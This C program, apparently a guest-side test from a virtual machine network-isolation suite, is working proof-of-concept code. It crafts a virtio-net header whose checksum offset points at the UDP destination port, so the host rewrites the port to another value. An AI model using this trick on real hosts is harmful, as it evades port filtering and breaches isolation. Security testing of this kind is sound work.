/* Threat vnet-header, run in the guest: sends two UDP frames through a packet socket. The first is plain. The second asks, in
 * a virtio-net header, that the checksum be completed, but points at the destination port where the checksum would go,
 * so that whoever completes it writes another port there. usage: vnet_header ADDRESS PORT OTHER_PORT */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <linux/virtio_net.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

struct frame {
	struct virtio_net_hdr header;
	struct ether_header ethernet;
	struct iphdr ip;
	struct udphdr udp;
	uint16_t fill[5];
} __attribute__((packed));

static uint32_t sum(const void *data, size_t size)
{
	const uint8_t *bytes = data;
	uint32_t total = 0;

	for (size_t i = 0; i + 1 < size; i += 2)
		total += (uint32_t)bytes[i] << 8 | bytes[i + 1];
	while (total >> 16)
		total = (total & 0xffff) + (total >> 16);
	return total;
}

static int fail(const char *what)
{
	perror(what);
	return 1;
}

/* Our address and MAC; the gateway's MAC is one below, as its address is. */
static int address_frame(int fd, struct frame *frame)
{
	struct ifreq link = { .ifr_name = "eth0" };
	uint32_t low;

	if (ioctl(fd, SIOCGIFHWADDR, &link) < 0)
		return -1;
	memcpy(frame->ethernet.ether_shost, link.ifr_hwaddr.sa_data, 6);
	memcpy(frame->ethernet.ether_dhost, link.ifr_hwaddr.sa_data, 6);
	memcpy(&low, frame->ethernet.ether_dhost + 2, 4);
	frame->ip.saddr = low;
	low = htonl(ntohl(low) - 1);
	memcpy(frame->ethernet.ether_dhost + 2, &low, 4);
	return 0;
}

/* Such that the checksum from the UDP header on is `port` */
static void aim_checksum(struct frame *frame, uint16_t port)
{
	uint32_t wanted = 0xffffu & ~(uint32_t)port;
	uint32_t have = sum(&frame->udp, sizeof frame->udp + sizeof frame->fill);

	frame->fill[0] = htons((uint16_t)(wanted >= have ? wanted - have : wanted + 0xffff - have));
}

int main(int argc, char **argv)
{
	struct frame frame = {
		.ethernet.ether_type = htons(ETHERTYPE_IP),
		.ip = { .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP },
		.udp = { .source = htons(4444), .len = htons(sizeof frame.udp + sizeof frame.fill) },
	};
	struct sockaddr_ll to = { .sll_family = AF_PACKET, .sll_halen = 6 };
	int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP)), one = 1;

	if (argc != 4 || inet_pton(AF_INET, argv[1], &frame.ip.daddr) != 1)
		return 2;
	if (fd < 0 || address_frame(fd, &frame) || setsockopt(fd, SOL_PACKET, PACKET_VNET_HDR, &one, sizeof one))
		return fail("packet socket");
	to.sll_ifindex = (int)if_nametoindex("eth0");
	frame.udp.dest = htons((uint16_t)atoi(argv[2]));
	frame.ip.tot_len = htons(sizeof frame.ip + sizeof frame.udp + sizeof frame.fill);
	frame.ip.check = htons((uint16_t)~sum(&frame.ip, sizeof frame.ip));
	if (sendto(fd, &frame, sizeof frame, 0, (struct sockaddr *)&to, sizeof to) < 0)
		return fail("plain frame");
	aim_checksum(&frame, (uint16_t)atoi(argv[3]));
	frame.header.flags = VIRTIO_NET_HDR_F_NEEDS_CSUM;
	frame.header.csum_start = sizeof frame.ethernet + sizeof frame.ip;
	frame.header.csum_offset = offsetof(struct udphdr, dest);
	if (sendto(fd, &frame, sizeof frame, 0, (struct sockaddr *)&to, sizeof to) < 0)
		return fail("frame with a header");
	puts("sent 2");
	return 0;
}
